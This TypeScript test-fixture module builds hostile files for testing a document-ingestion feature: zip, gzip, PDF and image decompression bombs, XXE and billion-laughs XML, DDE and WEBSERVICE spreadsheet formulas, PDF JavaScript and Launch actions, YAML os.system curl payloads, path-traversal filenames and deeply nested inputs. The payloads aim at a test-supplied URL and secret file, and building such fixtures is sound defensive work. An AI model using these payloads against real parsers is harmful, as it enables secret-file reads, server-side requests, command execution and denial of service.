import { deflateSync, gzipSync } from 'node:zlib'
import { unzipSync } from 'fflate'
import {
  bombs,
  makeEpub,
  makeOpenDocument,
  makePptx,
  makeWorkbook,
  shapes,
} from '../../features/knowledge/testing/officeDocuments.ts'
import { makePdf, paragraph } from '../../features/knowledge/testing/pdfs.ts'
import { makeBomb, makeDocx, makeZip, words } from '../../features/knowledge/testing/wordDocuments.ts'
import { packArchive } from '../packedArchives.ts'

export interface HostileFile {
  name: string
  bytes: Buffer<ArrayBuffer>
}

/** A file whose content is made when it is needed: packing some of them takes seconds. */
export interface UnmadeFile {
  name: string
  make(): Buffer<ArrayBuffer>
}

interface Targets {
  /** An address that must not be fetched. */
  url: string
  /** A file that must not be read. */
  secret: string
}

const bytesOf = (text: string): Buffer<ArrayBuffer> => Buffer.from(text)
const MEGABYTES = 400
/** What a bomb claims that it unpacks to, if it lies. */
const CLAIMED = 100_000

/** Files that unpack to more than there is room for. */
function bombFiles(): UnmadeFile[] {
  const lying = Object.entries(bombs()).map(([name, bomb]) => ({
    name: `lying-${name}`,
    make: () => makeBomb(MEGABYTES, CLAIMED, bomb),
  }))
  const open = Object.entries(bombs()).map(([name, bomb]) => ({
    name,
    make: () => makeBomb(MEGABYTES, undefined, bomb),
  }))
  const nested = (levels: number): Buffer<ArrayBuffer> =>
    levels === 0
      ? packArchive([{ name: 'zeros.txt', content: Buffer.alloc(1_000_000) }])
      : packArchive(
          Array.from({ length: 4 }, (_, at) => ({ name: `${at}.zip`, content: nested(levels - 1) })),
        )
  const manyShared = () => {
    const shared = { name: 'word/document.xml', content: Buffer.alloc(5_000_000, 'a') }
    const others = Array.from({ length: 1000 }, (_, at) => ({
      ...shared,
      name: `word/${at}.xml`,
      sharesWith: 0,
    }))
    return [shared, ...others]
  }
  return [
    { name: 'bomb.docx', make: () => makeBomb(MEGABYTES) },
    { name: 'lying-bomb.docx', make: () => makeBomb(MEGABYTES, CLAIMED) },
    ...open,
    ...lying,
    { name: 'bomb.gz', make: () => gzipSync(Buffer.alloc(50_000_000)) },
    { name: 'nested.zip', make: () => nested(4) },
    {
      name: 'shared-bytes.docx',
      make: () => packArchive(manyShared()),
    },
    {
      name: 'huge-declared.docx',
      make: () =>
        packArchive([{ name: 'word/document.xml', content: '<a/>', unpackedSize: 2 ** 50, isLarge: true }], {
          isLarge: true,
        }),
    },
    {
      name: 'bomb.pdf',
      make: () => pdfWith(`<< /Length LENGTH /Filter /FlateDecode >>`, deflatedZeros(300)),
    },
    {
      name: 'bomb-twice.pdf',
      make: () =>
        pdfWith('<< /Length LENGTH /Filter [/FlateDecode /FlateDecode] >>', deflateSync(deflatedZeros(500))),
    },
    {
      name: 'bomb.svg',
      make: () => bytesOf(`<svg xmlns="http://www.w3.org/2000/svg" width="60000" height="60000"/>`),
    },
    { name: 'bomb.png', make: () => hugePng() },
  ]
}

const deflatedZeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1_000_000))

/** A document whose page consists of one stream. */
function pdfWith(head: string, stream: Buffer): Buffer<ArrayBuffer> {
  return Buffer.concat([
    bytesOf(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>\nendobj\n4 0 obj\n${head.replace('LENGTH', `${stream.length}`)}\nstream\n`,
    ),
    stream,
    bytesOf('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF'),
  ])
}

/** An image that claims to have 3.6 thousand million pixels. */
function hugePng(): Buffer<ArrayBuffer> {
  const header = Buffer.alloc(25)
  header.writeUInt32BE(13, 0)
  header.write('IHDR', 4)
  header.writeUInt32BE(60_000, 8)
  header.writeUInt32BE(60_000, 12)
  header.set([8, 6, 0, 0, 0], 16)
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), header])
}

/** Files that name what must not be fetched, read, or run. */
function outwardFiles({ url, secret }: Targets): HostileFile[] {
  const entity = `<!DOCTYPE a [<!ENTITY e SYSTEM "file://${secret}"><!ENTITY f SYSTEM "${url}/entity">]>`
  const relation = (id: string, kind: string, target: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`
  const relations = (...all: string[]) => `<Relationships>${all.join('')}</Relationships>`
  return [
    { name: 'entity.xml', bytes: bytesOf(`<?xml version="1.0"?>${entity}<a>Boats &e; &f;</a>`) },
    {
      name: 'parameter-entity.xml',
      bytes: bytesOf(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "${url}/dtd">%p;]><a>Boats</a>`),
    },
    {
      name: 'external-dtd.xml',
      bytes: bytesOf(`<?xml version="1.0"?><!DOCTYPE a SYSTEM "${url}/dtd"><a>Boats</a>`),
    },
    {
      name: 'include.xml',
      bytes: bytesOf(
        `<?xml version="1.0"?><?xml-stylesheet href="${url}/style" type="text/xsl"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secret}" parse="text"/>Boats</a>`,
      ),
    },
    {
      name: 'entity.svg',
      bytes: bytesOf(
        `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${url}/image" width="9" height="9"/><image href="file://${secret}" width="9" height="9"/><text>&e;</text><script>fetch('${url}')</script></svg>`,
      ),
    },
    {
      name: 'entity.docx',
      bytes: makeDocx([words.text('Boats')], {
        'word/document.xml': `<?xml version="1.0"?>${entity}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Boats &e; &f;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    },
    {
      name: 'template.docx',
      bytes: makeDocx([words.text('Boats'), '<w:altChunk r:id="r9"/>'], {
        'word/_rels/settings.xml.rels': relations(relation('r1', 'attachedTemplate', `${url}/template`)),
        'word/_rels/document.xml.rels': relations(
          relation('r9', 'aFChunk', `${url}/chunk`),
          relation('r8', 'image', `${url}/image`),
          relation('r7', 'oleObject', `file://${secret}`),
        ),
        'word/vbaProject.bin': 'Macros of the document',
      }),
    },
    {
      name: 'formulas.xlsx',
      bytes: makeWorkbook([
        {
          name: 'S',
          rows: [
            ['Formula'],
            [{ f: `WEBSERVICE("${url}/cell")`, v: 1 }],
            [{ f: `IMPORTDATA("${url}/data")`, v: 2 }],
            [{ f: "cmd|'/C calc'!A0", v: 3 }],
            [{ f: `HYPERLINK("${url}/link")`, v: 4 }],
          ],
        },
      ]),
    },
    {
      name: 'formulas.csv',
      bytes: bytesOf(`Name,Value\n=cmd|'/C calc'!A0,1\n"=WEBSERVICE(""${url}/csv"")",2\n@SUM(1),3\n`),
    },
    {
      name: 'slides.pptx',
      bytes: makePptx([{ shapes: [shapes.box('Boats')] }], {
        'ppt/slides/_rels/slide1.xml.rels': relations(
          relation('r1', 'image', `${url}/slide`),
          relation('r2', 'notesSlide', '../../../../etc/passwd'),
        ),
      }),
    },
    {
      name: 'objects.odt',
      bytes: makeOpenDocument(
        'text',
        `<text:p>Boats<draw:image xlink:href="${url}/odt"/><draw:object xlink:href="file://${secret}"/></text:p>`,
        { 'Basic/Standard/Module1.xml': `<script>Shell("curl ${url}")</script>` },
      ),
    },
    {
      name: 'book.epub',
      bytes: makeEpub('Book', [
        `<p>Boats</p><img src="${url}/epub"/><iframe src="file://${secret}"></iframe>`,
      ]),
    },
    {
      name: 'page.html',
      bytes: bytesOf(
        `<html><head><base href="${url}/"><meta http-equiv="refresh" content="0;url=${url}"><link rel="stylesheet" href="style.css"><script src="script.js"></script></head><body><p>Boats</p><img src="${url}/image"><iframe src="file://${secret}"></iframe><object data="${url}/object"></object></body></html>`,
      ),
    },
    {
      name: 'page.md',
      bytes: bytesOf(
        `# Boats\n\n![image](${url}/image)\n\n<img src="${url}/html">\n\n[link](file://${secret})\n`,
      ),
    },
    {
      name: 'mail.eml',
      bytes: bytesOf(
        `From: a@example.com\r\nTo: b@example.com\r\nSubject: Boats\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Boats</p><img src="${url}/mail">\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="${url}/body"\r\n\r\n--b\r\nContent-Type: text/plain; name="../../../../tmp/hostile-mail.txt"\r\nContent-Disposition: attachment; filename="../../../../tmp/hostile-mail.txt"\r\n\r\nAttached.\r\n--b--\r\n`,
      ),
    },
    {
      name: 'note.rtf',
      bytes: bytesOf(
        `{\\rtf1 Boats {\\field{\\*\\fldinst INCLUDETEXT "file://${secret}"}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/rtf"}}{\\object\\objautlink{\\*\\objdata 0105}}}`,
      ),
    },
    {
      name: 'actions.pdf',
      bytes: bytesOf(
        `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js"\\)) >> /AA << /WC << /S /URI /URI (${url}/uri) >> >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> /AA << /O << /S /Launch /F (file://${secret}) >> >> >>\nendobj\n4 0 obj\n<< /F << /FS /URL /F (${url}/content) >> /Length 5 >>\nstream\n/X Do\nendstream\nendobj\n5 0 obj\n<< /Type /XObject /Subtype /Form /F (file://${secret}) /Length 0 >>\nstream\n\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF`,
      ),
    },
    {
      name: 'notebook.ipynb',
      bytes: bytesOf(
        JSON.stringify({
          nbformat: 4,
          cells: [
            { cell_type: 'markdown', source: [`![x](${url}/notebook)`] },
            {
              cell_type: 'code',
              source: [`!curl ${url}/cell`],
              outputs: [
                { output_type: 'display_data', data: { 'text/html': [`<script src="${url}/js"></script>`] } },
              ],
            },
          ],
        }),
      ),
    },
    {
      name: 'objects.yaml',
      bytes: bytesOf(
        `a: !!js/function 'function () { fetch("${url}/yaml") }'\nb: !!python/object/apply:os.system ["curl ${url}"]\nc: !include ${secret}\n`,
      ),
    },
  ]
}

/** Files without an end, and files that are several at once. */
function endlessFiles(): HostileFile[] {
  const laughs = Array.from(
    { length: 12 },
    (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
  ).join('')
  const aliases = Array.from(
    { length: 30 },
    (_, at) => `a${at}: &a${at} [${at ? `*a${at - 1}, *a${at - 1}` : 'x'}]`,
  )
  const sheet = (cells: string) => {
    const parts = Object.entries(unzipSync(makeWorkbook([{ name: 'S', rows: [['Boats']] }])))
    const texts = parts.map(([name, bytes]): [string, string] => [name, Buffer.from(bytes).toString()])
    const changed = texts.map(([name, text]): [string, string] => [
      name,
      name === 'xl/worksheets/sheet1.xml'
        ? text
            .replace(/<dimension[^>]*>/, '<dimension ref="A1:XFD1048576"/>')
            .replace(/<sheetData>.*<\/sheetData>/s, cells)
        : text,
    ])
    return makeZip(Object.fromEntries(changed))
  }
  const repeated =
    '<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>Boats</text:p></table:table-cell></table:table-row></table:table>'
  return [
    {
      name: 'laughs.xml',
      bytes: bytesOf(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "ha">${laughs}]><a>&e12;</a>`),
    },
    { name: 'aliases.yaml', bytes: bytesOf(`${aliases.join('\n')}\n`) },
    { name: 'deep.json', bytes: bytesOf(`${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`) },
    { name: 'deep.html', bytes: bytesOf(`<html><body>${'<div>'.repeat(300_000)}Boats</body></html>`) },
    { name: 'deep.md', bytes: bytesOf(`${'>'.repeat(200_000)} Boats\n\n${'*_'.repeat(200_000)}Boats`) },
    {
      name: 'deep.rtf',
      bytes: bytesOf(`{\\rtf1 ${'{'.repeat(500_000)}Boats \\bin4294967295 ${'}'.repeat(500_000)}}`),
    },
    { name: 'deep.xml', bytes: bytesOf(`<?xml version="1.0"?>${'<a>'.repeat(500_000)}`) },
    {
      name: 'deep.eml',
      bytes: bytesOf(
        `${Array.from({ length: 500 }, (_, at) => `From: a@example.com\r\nSubject: Level ${at}\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n`).join('')}Boats`,
      ),
    },
    {
      name: 'parts.eml',
      bytes: bytesOf(
        `From: a@example.com\r\nSubject: Parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(50_000)}--b--`,
      ),
    },
    {
      name: 'endless.xlsx',
      bytes: sheet(
        '<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>Boats</t></is></c></row></sheetData>',
      ),
    },
    {
      name: 'merged.xlsx',
      bytes: sheet(
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Boats</t></is></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      ),
    },
    { name: 'repeated.ods', bytes: makeOpenDocument('spreadsheet', repeated) },
    { name: 'wide.csv', bytes: bytesOf(`${'a,'.repeat(1_000_000)}b\n${'1,'.repeat(1_000_000)}2\n`) },
    {
      name: 'loop.pdf',
      bytes: bytesOf(
        '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 999999999 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>\nendobj\ntrailer << /Root 1 0 R /Prev 0 >>\n%%EOF',
      ),
    },
    {
      name: 'polyglot.pdf',
      bytes: Buffer.concat([
        makePdf([{ texts: paragraph(['Boats pay at the quay.'], 700) }]),
        makeDocx([words.text('Boats')]),
      ]),
    },
    {
      name: 'polyglot.html',
      bytes: Buffer.concat([bytesOf('GIF89a/*'), bytesOf('*/=1;<script>alert(1)</script>')]),
    },
    {
      name: 'polyglot.zip',
      bytes: Buffer.concat([packArchive([{ name: 'a.txt', content: 'Boats' }]), bytesOf('%PDF-1.7\n')]),
    },
    { name: 'program.txt', bytes: Buffer.from('4d5a90000300000004000000ffff0000', 'hex') },
    { name: 'compound.xls', bytes: loopingCompound() },
    {
      name: 'cues.vtt',
      bytes: bytesOf(`WEBVTT\n\n${'00:00.000 --> 99:99.999 align:start\nBoats\n\n'.repeat(20_000)}`),
    },
  ]
}

/** The older container of office documents, whose list of sectors leads back to itself. */
function loopingCompound(): Buffer<ArrayBuffer> {
  const bytes = Buffer.alloc(4096, 0)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes)
  bytes.writeUInt16LE(9, 30)
  bytes.writeUInt16LE(6, 32)
  bytes.writeUInt32LE(0xffffffff, 44)
  bytes.writeUInt32LE(0, 48)
  bytes.write('Workbook\0', 512, 'utf16le')
  return bytes
}

/** Files that are to unpack to everything, that call out, that have no end, or that are several at once. */
export const hostileFiles = (targets: Targets): UnmadeFile[] => [
  ...bombFiles(),
  ...[...outwardFiles(targets), ...endlessFiles()].map(({ name, bytes }) => ({ name, make: () => bytes })),
]
